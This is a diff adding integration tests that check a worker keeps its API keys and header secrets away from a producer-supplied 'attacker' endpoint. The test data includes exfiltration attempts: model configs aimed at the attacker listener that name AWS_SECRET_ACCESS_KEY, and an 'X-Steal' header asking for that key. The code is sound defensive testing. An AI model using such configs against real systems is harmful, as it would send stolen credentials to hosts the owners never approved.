@@ -10,9 +10,11 @@ scanned for the secrets the workers hold.
 from __future__ import annotations
 
 import json
+import threading
 import time
 import uuid
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -22,6 +24,7 @@ from kombu import Connection, Queue
 from legato import Legato, Llm, Pipeline
 from legato.local import processes
 from legato.local.redis_server import RedisServer
+from legato.spec import ModelConfig
 from tests.integration.test_security import _every_value
 
 # Secrets the hostile-test workers hold in their environment; none may ever reach Redis.
@@ -247,3 +250,132 @@ def test_submit_over_the_wire_takes_names_only_and_errors_leak_nothing(legato, g
         "pipeline": "summarize", "input": {"text": "by name"}})
     assert legato.wait(reply.get(timeout=20)["run_id"], timeout=30).status == "succeeded"
     assert worker.running()
+
+
+# -- credentials stay worker-side ------------------------------------------------------------
+
+class _Listener:
+    """An HTTP server a producer controls (or the provider): records every request it gets and
+    answers like a chat model — or, with `echo_key`, with a 401 that echoes the key it got."""
+
+    def __init__(self, name: str) -> None:
+        self.seen: list[tuple[dict[str, str], str]] = []
+        self.echo_key = False
+        listener = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:  # noqa: N802
+                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
+                listener.seen.append((dict(self.headers.items()), body))
+                if listener.echo_key:
+                    status, reply = 401, {"error": {"message": "Incorrect API key provided: "
+                                          + self.headers.get("Authorization", "").split()[-1]
+                                          + f"; header was {self.headers.get('X-Team', '')}"}}
+                else:
+                    status, reply = 200, {
+                        "choices": [{"message": {"content": f"[{name}] ok"},
+                                     "finish_reason": "stop"}],
+                        "usage": {"prompt_tokens": 1, "completion_tokens": 1}}
+                data = json.dumps(reply).encode()
+                self.send_response(status)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def everything(self) -> str:
+        return "\n".join(json.dumps(h) + "\n" + b for h, b in self.seen)
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def keeper(stack_env, tmp_path) -> Iterator[tuple[str, _Listener, _Listener, Path, Any]]:
+    """A worker holding secrets: a model key and a header secret for its `small` alias (at the
+    provider), and an AWS key in its environment that no model is paired with."""
+    provider, attacker = _Listener("provider"), _Listener("attacker")
+    models = tmp_path / "worker-models.yaml"
+    models.write_text(
+        "models:\n"
+        "  small:\n"
+        f"    base_url: {provider.url}\n"
+        "    model: smollm2\n"
+        "    api_key_env: LEGATO_MODEL_API_KEY\n"
+        "    headers: {X-Team: '${TEAM_HEADER_SECRET}'}\n"
+        "    max_attempts: 1\n")
+    queue = f"legato.test.keys.{uuid.uuid4().hex[:8]}"
+    env = {**stack_env, "LEGATO_MODELS_FILE": str(models), "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
+           "LEGATO_MODEL_API_KEY": MODEL_KEY, "TEAM_HEADER_SECRET": HEADER_SECRET}
+    try:
+        with processes.worker("keeper", [queue], env=env, concurrency=2,
+                              log_dir=tmp_path) as worker:
+            yield queue, provider, attacker, models, worker
+    finally:
+        provider.close()
+        attacker.close()
+
+
+def test_a_producer_cannot_send_a_workers_credentials_to_its_own_host(legato, keeper,
+                                                                       monkeypatch):
+    queue, provider, attacker, models, worker = keeper
+    # The producer has the header secret too: it must not expand it into the stored spec.
+    monkeypatch.setenv("TEAM_HEADER_SECRET", HEADER_SECRET)
+    monkeypatch.delenv("LEGATO_MODEL_API_KEY", raising=False)
+    from dataclasses import replace
+
+    producer = Legato(replace(legato.settings, models_file=str(models)), app=legato.app)
+
+    def run(models_: dict[str, ModelConfig] | None, alias: str) -> Any:
+        pipeline = Pipeline(name="exfil", models=models_ or {}, steps=[
+            Llm(id="call", model=alias, queue=queue, prompt="hello")])
+        return producer.wait(producer.submit(pipeline, {}), timeout=30)
+
+    # 1. An ad-hoc alias at the attacker's host naming the worker's AWS key: refused, no call.
+    evil = ModelConfig(base_url=attacker.url, model="m", api_key_env="AWS_SECRET_ACCESS_KEY",
+                       max_attempts=1)
+    refused = run({"evil": evil}, "evil")
+    assert refused.status == "failed"
+    assert "does not pair api_key_env 'AWS_SECRET_ACCESS_KEY'" in (refused.error or "")
+    # ... nor with the worker's model key, nor with a header asking for the AWS key.
+    assert run({"evil": evil.model_copy(update={"api_key_env": "LEGATO_MODEL_API_KEY"})},
+               "evil").status == "failed"
+    assert attacker.seen == []
+    sneaky = run({"evil": evil.model_copy(update={
+        "api_key_env": None, "headers": {"X-Steal": "${AWS_SECRET_ACCESS_KEY}"}})}, "evil")
+    assert sneaky.status == "succeeded"  # an endpoint of its own, with nothing of the worker's
+    assert len(attacker.seen) == 1
+    headers, _ = attacker.seen[0]
+    assert headers["X-Steal"] == "${AWS_SECRET_ACCESS_KEY}" and "Authorization" not in headers
+    # 2. The worker's own alias, re-pointed at the attacker in the spec: the worker's config
+    # wins — its endpoint, its key, its header.
+    hijacked = run({"small": evil.model_copy(update={"headers": {"X-Team": "mine"}})}, "small")
+    assert hijacked.status == "succeeded" and hijacked.output == "[provider] ok"
+    assert len(attacker.seen) == 1
+    headers, _ = provider.seen[-1]
+    assert headers["Authorization"] == f"Bearer {MODEL_KEY}"
+    assert headers["X-Team"] == HEADER_SECRET  # expanded on the worker, at call time
+    # 3. By name through the producer's models file: the spec pins `${TEAM_HEADER_SECRET}`.
+    named = run(None, "small")
+    assert named.status == "succeeded"
+    spec = legato.store.get_spec(legato.status(named.id).spec_hash)
+    assert spec.models["small"].headers == {"X-Team": "${TEAM_HEADER_SECRET}"}
+    # 4. A provider error that echoes the key and the header: redacted before it is stored.
+    provider.echo_key = True
+    echoed = run(None, "small")
+    assert echoed.status == "failed" and "HTTP 401" in (echoed.error or "")
+    assert MODEL_KEY in provider.everything()  # the provider did get (and echo) the key ...
+    assert "[redacted]" in (echoed.error or "")
+    for secret in SECRETS:  # ... but no error, record or log line holds it
+        assert secret not in (echoed.error or "")
+        assert secret not in worker.log_path.read_text(errors="replace")
+    assert AWS_SECRET not in attacker.everything() + provider.everything()
+    assert HEADER_SECRET not in attacker.everything()
